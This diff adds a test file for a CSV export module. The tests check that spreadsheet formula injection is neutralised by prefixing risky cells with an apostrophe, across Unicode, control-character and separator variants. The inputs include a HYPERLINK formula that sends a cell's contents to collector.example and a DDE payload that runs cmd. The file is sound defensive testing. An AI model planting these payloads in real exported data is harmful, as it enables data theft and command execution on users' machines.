@@ -1,0 +1,55 @@
+import { parse } from 'papaparse';
+import { csvLine, harmlessText } from '@/components/ui/table/export/csv';
+
+const cellsOf = (line: string) => parse<string[]>(line).data[0];
+
+test.each([
+  '=1+1',
+  '+1',
+  '-1+2',
+  '-cmd',
+  '@SUM(A1)',
+  ' =1',
+  '\u00a0=1',
+  '\u200b=1',
+  '"=1"',
+  "'=1",
+  '“=1',
+  '＝1',
+  '＋1',
+  '－A',
+  '＠SUM',
+  '　＝1',
+  '=HYPERLINK("https://collector.example?"&A1)',
+  "=cmd|'/c calc'!A1",
+])('the cell %j is text to every spreadsheet (T87)', (text) => {
+  expect(harmlessText(text)).toBe(`'${text}`);
+  expect(cellsOf(csvLine(['first', text, 'last']))).toEqual(['first', `'${text}`, 'last']);
+});
+
+test.each(['\t=1', '\r=1', '\n=1', '\tplain', '\rplain', '\nplain'])(
+  'a cell that begins with the control sign of %j is text (T87)',
+  (text) => expect(harmlessText(text)).toMatch(/^'/),
+);
+
+// Where a semicolon parts cells, what stands behind one in a cell is a cell of its own.
+test.each([
+  [';=1', ";'=1"],
+  ['a; =1', "a;' =1"],
+  ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
+  ['first line\n=1', "first line\n'=1"],
+])('behind a separator of another country %j is text as well (T87)', (text, harmless) =>
+  expect(harmlessText(text)).toBe(harmless),
+);
+
+test.each(['-1', '-12.50', '1.234,5', 'Rao', 'a-b', 'a = b', 'x@y.example', '', '1+1', 'R&D'])(
+  'the harmless text %j stays as it is',
+  (text) => expect(harmlessText(text)).toBe(text),
+);
+
+test('numbers stay numbers, and cells keep commas, quotes and lines (RFC 4180)', () => {
+  expect(csvLine([-5, 2.5, null, Number.NaN])).toBe('-5,2.5,,\r\n');
+  const cells = ['Rao, Ananya', 'called "Anu"', 'two\r\nlines', 'a;b'];
+  expect(csvLine(cells)).toBe('"Rao, Ananya","called ""Anu""","two\r\nlines","a;b"\r\n');
+  expect(cellsOf(csvLine(cells))).toEqual(cells);
+});
